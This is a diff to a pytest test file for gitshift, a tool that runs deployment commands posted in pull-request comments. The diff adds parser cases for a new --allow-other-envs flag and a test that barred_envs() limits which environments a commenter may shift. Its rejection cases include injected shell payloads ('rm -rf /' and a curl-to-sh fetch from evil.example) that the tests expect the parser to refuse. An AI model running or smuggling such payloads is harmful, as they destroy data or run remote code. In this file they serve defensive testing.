@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from gitshift.comments.parse import Command, CommandError, RefusedError, authorize, parse
+from gitshift.comments.parse import Command, CommandError, RefusedError, authorize, barred_envs, parse
 from gitshift.config import CommandsConfig, Rule
 
 
@@ -38,6 +38,10 @@ from gitshift.config import CommandsConfig, Rule
      {"app": "web", "env": "production-canary", "weight": 25}),
     ("  /gitshift   canary   scale 10  \r\nthanks!\nmore", {"weight": 10, "line": "/gitshift   canary   scale 10"}),
     ("/gitshift\tstatus", {"verb": "status"}),
+    ("/gitshift set-image :1.2.0 --allow-other-envs", {"verb": "set-image", "allow_other_envs": True}),
+    ("/gitshift set-image :1.2.0", {"allow_other_envs": False}),
+    ("/gitshift canary scale --allow-other-envs 25", {"weight": 25, "allow_other_envs": True}),
+    ("/gitshift promote web staging production --allow-other-envs", {"source": "staging", "allow_other_envs": True}),
 ])
 def test_valid_commands(body: str, expected: dict[str, object]) -> None:
     command = parse(body)
@@ -75,6 +79,10 @@ def test_comments_not_addressed_to_gitshift(body: str) -> None:
     ("/gitshift canary scale --weight 10 --weight 20", "given twice"),
     ("/gitshift canary scale --weight", "needs a value"),
     ("/gitshift canary scale --next=yes", "takes no value"),
+    ("/gitshift canary promote --allow-other-envs=yes", "--allow-other-envs takes no value"),
+    ("/gitshift canary promote --allow-other-envs --allow-other-envs", "given twice"),
+    ("/gitshift status --allow-other-envs", "`status` takes no option --allow-other-envs"),
+    ("/gitshift help --allow-other-envs", "`help` takes no option --allow-other-envs"),
     ("/gitshift canary deploy", "needs an image"),
     ("/gitshift canary deploy 'web:1.0; rm -rf /'", "invalid image reference"),
     ("/gitshift set-image $(curl evil.example|sh)", "invalid image reference"),
@@ -163,3 +171,14 @@ def test_authorize(verb: str, permission: str, login: str, env: str | None, conf
         authorize(cmd(verb), permission, login, env, config)
     assert refusal in caught.value.what
     assert caught.value.exit_code == 1
+
+
+def test_allow_other_envs_opens_only_the_envs_the_commenter_may_shift() -> None:
+    envs = [("web", "staging"), ("web", "production"), ("web", "production-canary"), ("api", "production")]
+    assert barred_envs(cmd("bluegreen.promote"), "maintain", "bob", envs, RULES) == (
+        ("web", "production", "bluegreen.promote in production is limited to @alice"),
+        ("api", "production", "bluegreen.promote in production is limited to @alice"))
+    assert barred_envs(cmd("canary.scale"), "write", "carol", envs, RULES) == (
+        ("web", "production-canary", "canary.scale in production-canary needs at least maintain permission; "
+                                     "@carol has write"),)
+    assert barred_envs(cmd("bluegreen.promote"), "admin", "alice", envs, RULES) == ()
